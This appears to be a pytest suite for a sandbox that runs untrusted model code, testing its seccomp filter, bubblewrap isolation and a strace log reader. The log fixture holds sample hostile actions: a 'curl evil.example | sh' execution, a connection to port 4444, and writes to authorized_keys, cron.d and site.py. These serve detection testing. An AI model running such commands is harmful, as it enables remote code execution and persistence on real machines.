"""The sandbox's parts that need no sandbox: the seccomp program, the strace log reader, the policy and the
bubblewrap command line."""

from __future__ import annotations

import struct

import pytest

from bastion.core.errors import ParameterError
from bastion.sandbox.bwrap import bwrap_command
from bastion.sandbox.observe import parse_log
from bastion.sandbox.policy import SandboxPolicy
from bastion.sandbox.seccomp import build_filter

ALLOW, EPERM = 0x7FFF0000, 0x00050001
X86_64, AARCH64, I386 = 0xC000003E, 0xC00000B7, 0x40000003


def run_bpf(program: bytes, nr: int, arch: int) -> int:
    """A classic-BPF interpreter for the four instructions the filter uses, over seccomp_data(nr, arch)."""
    insns = [struct.unpack("=HBBI", program[i:i + 8]) for i in range(0, len(program), 8)]
    data = {0: nr, 4: arch}
    acc, pc = 0, 0
    while True:
        code, jt, jf, k = insns[pc]
        if code == 0x20:
            acc = data[k]
        elif code == 0x15:
            pc += jt if acc == k else jf
        elif code == 0x35:
            pc += jt if acc >= k else jf
        elif code == 0x06:
            return k
        else:
            raise AssertionError(f"unexpected instruction {code:#x}")
        pc += 1


@pytest.mark.parametrize(("machine", "arch", "denied", "allowed"), [
    ("x86_64", X86_64, {"ptrace": 101, "mount": 165, "bpf": 321, "unshare": 272, "keyctl": 250},
     {"read": 0, "write": 1, "openat": 257, "mmap": 9, "clone": 56, "execve": 59}),
    ("aarch64", AARCH64, {"ptrace": 117, "mount": 40, "bpf": 280, "unshare": 97, "keyctl": 219},
     {"read": 63, "write": 64, "openat": 56, "mmap": 222, "clone": 220, "execve": 221}),
])
def test_the_seccomp_filter_denies_escapes_and_allows_computation(machine, arch, denied, allowed) -> None:
    program = build_filter(machine)
    assert program is not None and len(program) % 8 == 0
    for name, nr in denied.items():
        assert run_bpf(program, nr, arch) == EPERM, name
    for name, nr in allowed.items():
        assert run_bpf(program, nr, arch) == ALLOW, name
    assert run_bpf(program, 0, I386) == EPERM  # a foreign architecture's calls
    if machine == "x86_64":
        assert run_bpf(program, 0x40000000 | 1, arch) == EPERM  # x32 calls


def test_no_filter_for_an_unknown_machine() -> None:
    assert build_filter("riscv64") is None


LOG = """\
100 openat(AT_FDCWD, "/etc/ld.so.cache", O_RDONLY|O_CLOEXEC) = 3</etc/ld.so.cache>
100 mkdir("/tmp/newroot", 0755) = 0
101 openat(AT_FDCWD, "/.bastion-observe-abc", O_RDONLY) = -1 ENOENT (No such file or directory)
100 unlink("/tmp/oldroot") = 0
101 openat(AT_FDCWD, "/scratch/x/tmpfile", O_RDWR|O_CREAT|O_EXCL|O_CLOEXEC, 0600) = 4</scratch/x/tmpfile>
101 openat(AT_FDCWD, "/dev/null", O_WRONLY|O_CLOEXEC) = 4</dev/null>
101 openat(AT_FDCWD, "/venv/lib/python3.11/site-packages/torch/lib/libtorch.so", O_RDONLY|O_CLOEXEC) = 5
101 openat(AT_FDCWD, "/home/user/.ssh/authorized_keys", O_WRONLY|O_CREAT|O_TRUNC, 0666) = -1 EROFS (Read-only)
101 openat(AT_FDCWD, "relative.txt", O_WRONLY|O_CREAT, 0666) = 6</scratch/x/relative.txt>
101 openat(7</etc>, "cron.d/evil", O_WRONLY|O_CREAT, 0644) = -1 EROFS (Read-only file system)
101 openat(AT_FDCWD, "/scratch/x/evil.so", O_RDONLY|O_CLOEXEC) = 8</scratch/x/evil.so>
101 clone(child_stack=0x7f, flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM) = 102
101 clone(child_stack=NULL, flags=CLONE_VM|CLONE_VFORK|SIGCHLD) = 103
103 execve("/bin/sh", ["sh", "-c", "curl evil.example | sh"], 0x7ffd /* 3 vars */) = 0
101 socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_TCP) = 9<socket:[1]>
101 socket(AF_UNIX, SOCK_STREAM|SOCK_CLOEXEC, 0) = 10<socket:[2]>
101 connect(9<socket:[1]>, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("10.0.0.1")}, 16) = -1 E
101 sendto(9, "x", 1, 0, {sa_family=AF_INET6, sin6_port=htons(53), sin6_addr=inet_pton(AF_INET6, "::1")}, 28) = 1
101 rename("/scratch/x/a", "/venv/lib/python3.11/site.py") = -1 EROFS (Read-only file system)
100 openat(AT_FDCWD, "/outside/by/bwrap", O_WRONLY|O_CREAT, 0644) = 3
"""


def test_the_log_reader_keeps_what_the_model_did_and_nothing_else() -> None:
    observation = parse_log(LOG, "/.bastion-observe-abc", "/scratch/x", ["/venv"])
    found = {f.metric: f.evidence["targets"] for f in observation.findings()}
    assert found == {
        "dynamic-write": ["/home/user/.ssh/authorized_keys", "/etc/cron.d/evil", "/venv/lib/python3.11/site.py"],
        "dynamic-exec": ["sh -c curl evil.example | sh"],
        "dynamic-connect": ["connect 10.0.0.1:4444", "sendto ::1:53"],
        "dynamic-spawn": ["clone by pid 101"],
        "dynamic-socket": ["AF_INET"],
        "dynamic-library": ["/scratch/x/evil.so"],
    }
    severity = {f.metric: f.severity for f in observation.findings()}
    assert severity["dynamic-write"] == severity["dynamic-exec"] == severity["dynamic-connect"] == "critical"


WARMUP_LOG = """\
101 openat(AT_FDCWD, "/.bastion-observe-abc", O_RDONLY) = -1 ENOENT (No such file or directory)
101 openat(AT_FDCWD, "/.bastion-observe-abc-warmup-begin", O_RDONLY) = -1 ENOENT (No such file or directory)
101 clone(child_stack=NULL, flags=CLONE_VM|CLONE_VFORK|SIGCHLD) = 104
104 execve("/usr/bin/lscpu", ["lscpu", "--parse=core"], 0x7ffd /* 9 vars */) = 0
104 openat(AT_FDCWD, "/home/probe.so", O_RDONLY|O_CLOEXEC) = 3</home/probe.so>
101 openat(AT_FDCWD, "/.bastion-observe-abc-warmup-end", O_RDONLY) = -1 ENOENT (No such file or directory)
104 execve("/bin/late", ["late"], 0x7ffd /* 9 vars */) = 0
101 openat(AT_FDCWD, "/.bastion-observe-abc-warmup-begin", O_RDONLY) = -1 ENOENT (No such file or directory)
101 clone(child_stack=NULL, flags=CLONE_VM|CLONE_VFORK|SIGCHLD) = 105
105 execve("/usr/bin/lscpu", ["lscpu", "--parse=core"], 0x7ffd /* 9 vars */) = 0
101 openat(AT_FDCWD, "/.bastion-observe-abc-warmup-end", O_RDONLY) = -1 ENOENT (No such file or directory)
"""


def test_the_workers_warm_up_is_skipped_once_and_a_model_running_the_same_probe_is_reported() -> None:
    """Only the worker's first warm-up window (before any model code: joblib's `lscpu` core count) is skipped;
    a process acting after it (even one the warm-up started, or a reused pid) and a model opening the marker
    paths later are observed."""
    observation = parse_log(WARMUP_LOG, "/.bastion-observe-abc", "/scratch/x", ["/venv"])
    found = {f.metric: f.evidence["targets"] for f in observation.findings()}
    assert found == {"dynamic-exec": ["late", "lscpu --parse=core"], "dynamic-spawn": ["clone by pid 101"]}
    assert [e.pid for e in observation.events if e.kind == "exec"] == [104, 105]


def test_a_log_without_the_marker_reports_nothing() -> None:
    assert parse_log(LOG, "/.bastion-observe-other", "/scratch/x", ["/venv"]).findings() == []


def test_policy_limits_and_bad_timeouts() -> None:
    limits = SandboxPolicy(timeout=10, file_size=1 << 20).rlimits()
    assert limits["RLIMIT_FSIZE"] == 1 << 20 and limits["RLIMIT_CORE"] == 0 and limits["RLIMIT_CPU"] >= 10
    assert SandboxPolicy(timeout=5).load_timeout == 5
    with pytest.raises(ParameterError):
        SandboxPolicy(timeout=0)


def test_the_bubblewrap_command_isolates(tmp_path) -> None:
    command = bwrap_command(["python", "-c", "pass"], tmp_path, ["/opt/model.pt"], seccomp_fd=5)
    text = " ".join(command)
    for flag in ("--unshare-all", "--unshare-user", "--die-with-parent", "--new-session", "--cap-drop ALL",
                 "--seccomp 5", f"--bind {tmp_path} {tmp_path}", "--ro-bind /opt/model.pt /opt/model.pt",
                 "--tmpfs /tmp"):
        assert flag in text
    assert command[command.index("--") + 1:] == ["python", "-c", "pass"]


def test_the_inline_write_room_is_the_pipes_own_capacity():
    """A job is written inline only when it fits the empty request pipe (then the write cannot block, whatever the
    worker does); the room is read from the pipe, and one page where it cannot be."""
    import io
    import os

    from bastion.sandbox.session import PIPE_ROOM_FALLBACK, _pipe_capacity

    read, write = os.pipe()
    try:
        with os.fdopen(write, "wb") as stream:
            room = _pipe_capacity(stream)
            os.set_blocking(write, False)
            stream.raw.write(b"x" * room)  # fills it without a reader and without blocking
            assert room >= PIPE_ROOM_FALLBACK
    finally:
        os.close(read)
    assert _pipe_capacity(io.BytesIO()) == PIPE_ROOM_FALLBACK
